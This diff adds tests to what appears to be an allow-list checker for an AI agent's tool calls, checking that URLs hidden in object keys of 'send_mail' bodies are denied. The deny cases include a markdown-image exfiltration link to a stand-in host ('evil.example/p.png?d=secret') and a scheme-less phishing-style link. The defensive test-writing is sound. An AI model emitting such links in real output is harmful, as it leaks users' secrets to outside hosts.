@@ -122,6 +122,21 @@ describe('embedded URLs a renderer reads further', () => {
   });
 });
 
+describe('object keys', () => {
+  it('a link written as an object key meets the embedded-URL control of the object holding it', () => {
+    expect(check('send_mail', { body: { 'see https://files.company.example/a': true } }).effect).toBe('allow');
+    for (const body of [
+      { '![x](https://evil.example/p.png?d=secret)': true },
+      { note: [{ '//e.io': 1 }] },
+      { 'www.evil.example/login': '' },
+    ]) {
+      expect(check('send_mail', { body }).effect, JSON.stringify(body)).toBe('deny');
+    }
+    // A key under a control on a URL argument names a field: `{href}` is not itself a URL.
+    expect(check('fetch_docs', { url: { href: 'https://docs.company.example/a' } }).effect).toBe('allow');
+  });
+});
+
 describe('links without a scheme', () => {
   it('a `www.` link, which GitHub-flavoured markdown renders as a link, meets the allow-list', () => {
     // marked renders `www.evil.example/login` as `<a href="http://www.evil.example/login">`.
